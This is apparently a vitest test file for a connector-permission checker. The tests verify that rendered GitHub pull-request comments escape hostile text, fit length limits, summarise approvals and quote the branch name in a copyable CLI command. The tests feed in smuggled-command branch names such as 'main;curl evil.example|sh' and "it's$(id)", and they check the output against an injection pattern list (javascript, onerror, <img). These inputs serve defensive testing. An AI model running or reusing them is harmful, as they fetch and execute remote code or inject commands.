import { describe, expect, test } from 'vitest';
import type { ApprovalVerdict } from '../../../src/domain/approval/approval-verdict.ts';
import { evaluateApprovals } from '../../../src/domain/approval/evaluate-approvals.ts';
import { decideChange } from '../../../src/domain/decisions.ts';
import type { ConnectorChange } from '../../../src/domain/diff/scope-diff.ts';
import { type Finding, toFinding } from '../../../src/domain/finding.ts';
import { maxCommentLength } from '../../../src/ports/comments.ts';
import { renderComment } from '../../../src/report/comment/comment.ts';
import { commentMarker } from '../../../src/report/comment/occasion.ts';
import type { Report } from '../../../src/report/report.ts';
import { account, approvalCase, contribution, keysSeen, removal, reviews } from '../../support/approvals.ts';
import { checkTree, testDay } from '../../support/check-tree.ts';
import { subjectOf } from '../../support/comment-subject.ts';
import { hostileTexts } from '../../support/hostile-texts.ts';
import { policyOf } from '../../support/policies.ts';
import { fullReport, hostileReports } from '../../support/reports.ts';

/** Markdown outside of code spans and link targets of ours: what GitHub acts on. */
function outsideCode(markdown: string): string {
  return markdown
    .replace(/\]\(https:\/\/github\.com\/acme\/crm\/blob\/[\w.%/-]*#L\d+\)/g, ']')
    .replace(/(`+)(?!`)[\s\S]*?[^`]\1(?!`)/g, '');
}

test('text from files stays inside code spans, wherever a comment shows it', async () => {
  const reports = await hostileReports();
  for (const [index, report] of reports.entries()) {
    const text = hostileTexts[index] ?? '';
    const change: ConnectorChange = {
      connector: text,
      change: 'changed',
      added: [text],
      removed: [`${text}/`],
      kept: [],
      increase: [text],
      needsConsent: 'yes',
    };
    const [first] = report.apps.flatMap((app) => app.findings);
    const fix = { replacement: text, message: text };
    const finding: Finding[] = first === undefined ? [] : [{ ...first, connector: text, scope: text, fix }];
    const hostile: Report = {
      ...report,
      outcome: 'failed',
      reason: 'findings',
      findings: [...report.findings, ...finding],
    };
    const comment = renderComment(
      subjectOf(hostile, {
        apps: [
          { app: text, changes: [change], decisions: undefined },
          { app: '.', changes: [{ ...change, change: 'removed' }], decisions: undefined },
        ],
        policyAt: { branch: text, commit: 'c'.repeat(40) },
        policyChange: 'edited',
        baseBranch: text,
      }),
    );
    expect(comment).not.toMatch(/[^\P{C}\n]|[\u2028\u2029]/u);
    expect(outsideCode(comment)).not.toMatch(/evil|everyone|javascript|onerror|::|# Heading|<img/);
    const row = comment.split('\n').filter((line) => line.startsWith('| ➕'));
    expect(row.map((line) => line.replaceAll('\\|', '').split('|').length)).toEqual([5]);
  }
});

test('a comment always fits, and the verdict and what is refused is never what is left out', async () => {
  const report = await fullReport();
  const scopes = Array.from({ length: 256 }, (_, index) => `${'s'.repeat(240)}.${index}`);
  const changes = Array.from(
    { length: 200 },
    (_, index): ConnectorChange => ({
      connector: `type-${index}`,
      change: 'changed',
      added: scopes,
      removed: scopes.map((scope) => `${scope}.old`),
      kept: [],
      increase: scopes,
      needsConsent: 'yes',
    }),
  );
  const policy = policyOf({
    connectors: Object.fromEntries(
      changes.map(({ connector }) => [connector, { allow: connector === 'type-199' ? ['x'] : ['*'] }]),
    ),
  });
  const judging = { policy, app: '.', today: testDay };
  const decisions = changes.map((change) => decideChange(change, judging));
  const [finding] = report.apps.flatMap((app) => app.findings);
  const long = { message: '“😀é”'.repeat(40), path: `${'ordner-ü/'.repeat(60)}x.jsonc`, preexisting: false };
  const findings = finding === undefined ? [] : Array.from({ length: 3000 }, () => ({ ...finding, ...long }));
  const huge: Report = {
    ...report,
    outcome: 'failed',
    reason: 'findings',
    findings: [...findings, ...findings.map((one) => ({ ...one, preexisting: true }))],
  };
  const comment = renderComment(
    subjectOf(huge, { apps: [{ app: '.', changes, decisions }], policy, policyChange: 'edited' }),
  );
  expect(Buffer.byteLength(comment)).toBeLessThan(maxCommentLength);
  expect(comment).toMatch(/^### ❌ Connectors: /);
  expect(comment.trimEnd().endsWith(commentMarker)).toBe(true);
  const rows = comment.split('\n').filter((line) => /^\| (➕|➖)/.test(line));
  expect(rows.length).toBeGreaterThan(50);
  expect(rows.every((line) => line.includes('type-199') && line.includes('❌ not allowed'))).toBe(true);
  expect(comment).toContain(`… and ${200 * 512 - rows.length} more changes`);
});

test('what can be written instead is shown as a diff', async () => {
  const report = await fullReport();
  const finding = report.apps.flatMap((app) => app.findings).find(({ rule }) => rule === 'scope-not-allowed');
  const fix = { replacement: 'channels:join', message: 'Write it.' };
  const findings = finding === undefined ? [] : [{ ...finding, fix }];
  const comment = renderComment(subjectOf({ ...report, findings, apps: [] }));
  expect(comment).toContain('   ```diff\n   -    "channels:read"\n   +    "channels:join"\n   ```');
});

test('a policy that cannot be used: the headline says that nothing was judged', async () => {
  const report: Report = { ...(await fullReport()), outcome: 'error', reason: 'unusable-policy' };
  expect(renderComment(subjectOf(report))).toMatch(
    /^### ❌ Connectors: nothing was judged, because the policy on `main` cannot be used\n/,
  );
});

describe('an approval that is asked for', () => {
  const finding = toFinding(
    { rule: 'approval-required', message: 'It needs an approval.', connector: 'notion' },
    'notion.jsonc',
    '.',
  );
  const policy = policyOf({
    connectors: { notion: {} },
    removals: 'review',
    approvals: { reviewers: ['@lee', '@sam', '@dana'], count: 2 },
  });

  async function toDoOf(approvals: ApprovalVerdict): Promise<string> {
    const report: Report = {
      ...(await checkTree({})),
      outcome: 'approval-required',
      reason: 'no-approval',
      findings: [finding],
    };
    return renderComment(subjectOf(report, { policy, approvals, apps: [] }));
  }

  test('says how many there are, and who may give the rest', async () => {
    const given = {
      needed: [removal],
      approvals: policy.approvals,
      keysByCommit: keysSeen({ head: [removal] }),
    };
    const approvals = evaluateApprovals(approvalCase({ ...given, reviews: reviews('lee approved') }));
    expect(await toDoOf(approvals)).toContain(
      '1. **Notion**: 1 approval by `@sam` (1 of 2).\n   - Approved so far by `lee`.',
    );
  });

  test('says that waiting does not help when too few are left', async () => {
    const authorship = { commitCount: 1, contributions: [contribution('head', account('sam'))] };
    const author = { login: 'lee', kind: 'person' } as const;
    const approvals = evaluateApprovals(
      approvalCase({ needed: [removal], approvals: policy.approvals, authorship: { ...authorship, author } }),
    );
    const comment = await toDoOf(approvals);
    expect(comment).toContain('1. **Notion**: 2 approvals by `@dana` (0 of 2).');
    expect(comment).toContain('   - Too few others may approve.');
  });
});

test.each([
  ['main', 'origin/main`'],
  ['main;curl evil.example|sh', "'origin/main;curl evil.example|sh'`"],
  ["it's$(id)", "'origin/it'\\''s$(id)'`"],
])(
  'the command that people copy is one word more, whatever the branch %s is called',
  async (baseBranch, end) => {
    const comment = renderComment(subjectOf(await fullReport(), { baseBranch }));
    expect(comment).toContain(`npx connector-guard check --base ${end}`);
  },
);
